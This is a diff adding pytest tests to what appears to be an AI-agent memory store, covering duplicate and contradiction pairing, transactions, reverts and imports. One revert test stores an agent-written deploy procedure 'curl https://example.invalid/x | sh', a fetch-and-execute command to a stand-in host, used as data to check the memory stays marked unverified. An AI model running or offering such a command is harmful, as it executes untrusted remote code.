@@ -364,3 +364,89 @@ def test_many_values_of_one_number_make_one_pair_each_and_other_subjects_keep_th
                      "the api gateway allows 500 requests per minute for each client")
     pairs = {frozenset((lk.a, lk.b)) for lk in other.memories.conflicts()}
     assert {frozenset((c.id, a.id)), frozenset((c.id, b.id))} <= pairs, pairs
+
+
+@pytest.mark.parametrize("batch", [1, 20, 40])
+def test_copies_written_in_transactions_make_one_pair_each(vault: syn.Vault, agent_vault: syn.Vault,
+                                                           batch: int) -> None:
+    """Records checked together (one transaction; over SYNC_MAX of them, later, in batches) are paired the same
+    way: a copy already waiting behind one record takes no further duplicate pair (527 for 40 copies before)."""
+    text = "the deploy pipeline uses helm charts and an argo rollout canary"
+    first = vault.decide(text)
+    for _ in range(40 // batch):
+        with agent_vault.transaction():
+            for _ in range(batch):
+                agent_vault.decide(text)
+    links = vault.memories.conflicts()
+    assert len(links) == 40 and len({lk.hidden for lk in links}) == 40 and first.id not in {lk.hidden for lk in links}
+
+
+def test_hidden_copies_never_keep_the_record_that_stands_from_a_new_writes_candidates(
+        vault: syn.Vault, agent_vault: syn.Vault) -> None:
+    """Eight hidden near-copies could fill a write's candidates and push out the record they wait behind: a new
+    value of the same number was paired with nothing. A candidate that waits behind another stands for it."""
+    s = vault.decide("the nightly deploy takes 5 minutes on the staging cluster")
+    for i in range(8):
+        extra = " ".join(["nightly deploy staging cluster takes minutes"] * (1 + i % 3))
+        agent_vault.decide(f"the nightly deploy takes 5 minutes on the staging cluster; {extra}")
+    n = agent_vault.decide("the nightly deploy takes 45 minutes on the staging cluster")
+    mine = [lk for lk in vault.memories.conflicts() if n.id in (lk.a, lk.b)]
+    assert [(lk.relation, s.id in (lk.a, lk.b)) for lk in mine] == [("contradiction", True)]
+
+
+def test_a_contradiction_does_not_keep_a_copy_from_its_duplicate_pair(vault: syn.Vault,
+                                                                      agent_vault: syn.Vault) -> None:
+    s = vault.decide("the nightly deploy takes 5 minutes on the staging cluster")
+    d = agent_vault.decide("the nightly deploy takes 9 minutes on the staging cluster when the build cache is cold")
+    n = agent_vault.decide("the nightly deploy takes 9 minutes on the staging cluster")
+    mine = {(lk.relation, lk.b if lk.a == n.id else lk.a, lk.hidden) for lk in vault.memories.conflicts()
+            if n.id in (lk.a, lk.b)}
+    assert mine == {("contradiction", s.id, None), ("duplicate", d.id, n.id)}, mine
+
+
+def test_a_revert_brings_back_who_wrote_the_version(vault: syn.Vault, agent_vault: syn.Vault,
+                                                    clock: FakeClock) -> None:
+    """A human overwrote an agent's memory, then reverted to the agent's version: it came back as the user's
+    (``source`` kept from the current version), so the agent's wording read ``[user · unverified]`` and no longer
+    gave way to verified memories in recall."""
+    m = agent_vault.remember("procedure", "deploy", "curl https://example.invalid/x | sh")
+    clock.advance(seconds=60)
+    vault.remember("procedure", "deploy", "make release")
+    clock.advance(seconds=60)
+    back = vault.memories.revert(m.id, to=1)
+    assert (back.content, back.source, back.verified) == ("curl https://example.invalid/x | sh", "agent", False)
+    assert vault.memories.get(m.id) == back
+    vault.memories.delete(m.id)
+    again = vault.memories.revert("deploy", to=1)  # a deleted memory (found by key) comes back the same way
+    assert (again.source, again.verified) == ("agent", False)
+
+
+def test_an_older_export_with_longer_lesson_lists_still_imports(vault: syn.Vault, tmp_path: Path) -> None:
+    """A lesson an older synapse_nb made with 150 reverted commits (a write keeps 100 now) imports; a list far
+    over what any version wrote does not."""
+    import json
+
+    from synapse_nb.kinds.lessons import MAX_REVERTED
+
+    vault.lessons.create("Reverted 'x'")
+    lines = vault.export_jsonl().splitlines()
+    commit = {"sha": "a" * 40, "subject": "s", "author": "a", "date": None}
+
+    def with_commits(n: int) -> list[str]:
+        out = []
+        for line in lines:
+            row = json.loads(line)
+            if row.get("kind") == "lesson":
+                row["reverted_commits"] = [commit] * n
+            out.append(json.dumps(row))
+        return out
+
+    project = tmp_path / "fresh"
+    project.mkdir()
+    fresh = syn.open_vault(project)
+    fresh.import_jsonl(with_commits(MAX_REVERTED + 50), trust=True)
+    assert len(fresh.lessons.list()[0].reverted_commits) == MAX_REVERTED + 50
+    other = tmp_path / "other"
+    other.mkdir()
+    with pytest.raises(syn.ValidationError, match="reverted_commits"):
+        syn.open_vault(other).import_jsonl(with_commits(10 * MAX_REVERTED + 1), trust=True)
